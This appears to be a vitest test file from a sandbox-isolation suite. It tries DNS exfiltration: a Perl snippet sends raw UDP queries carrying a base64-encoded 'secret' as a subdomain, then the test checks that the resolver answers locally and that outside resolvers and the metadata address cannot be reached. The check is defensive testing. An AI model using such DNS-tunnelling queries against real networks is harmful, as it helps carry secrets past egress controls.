import { expect } from 'vitest';
import type { Attack } from '#test/hostile/machines/ground.ts';

/** Asks for a name by UDP and prints the answer's code and number of records, or "silence". */
const ask = (server: string, name: string) =>
  `use IO::Socket::INET; use IO::Select;
  my $s = IO::Socket::INET->new(Proto => 'udp', PeerAddr => '${server}:53') or do { print "no way\\n"; exit };
  $s->send(pack('n6', 7, 0x100, 1, 0, 0, 0) . join('', map { chr(length) . $_ } split /\\./, '${name}') . pack('Cnn', 0, 1, 1));
  my $answer = '';
  $s->recv($answer, 512) if IO::Select->new($s)->can_read(1);
  print length $answer >= 12 ? join(' ', unpack('x3 C x2 n', $answer)) . "\\n" : "silence\\n";`;

export const attack: Attack = {
  tries: 'to carry data out in names that somebody else is asked for',
  needs: ['dns', 'perl'],
  async by({ attacker }) {
    // 3 is NXDOMAIN, said by the resolver itself: it asks nobody.
    for (const name of ['c2VjcmV0.example.com', 'c2VjcmV0.localhost', 'one.one.one.one'])
      expect(await attacker.perl(ask('169.254.169.253', name))).toEqual(['3 0']);
    // What public names of machines end in is there, without an address.
    expect(await attacker.perl(ask('169.254.169.253', 'localhost'))).toEqual(['0 0']);
    for (const server of ['1.1.1.1', '8.8.8.8', '169.254.169.254', attacker.spec.vpc.gateway])
      expect(await attacker.perl(ask(server, 'example.com'))).toEqual([expect.stringMatching(/^(silence|no way)$/)]);
    expect(await attacker.perl(ask('169.254.169.253', `${attacker.spec.name}.internal`))).toEqual(['0 1']);
  },
};
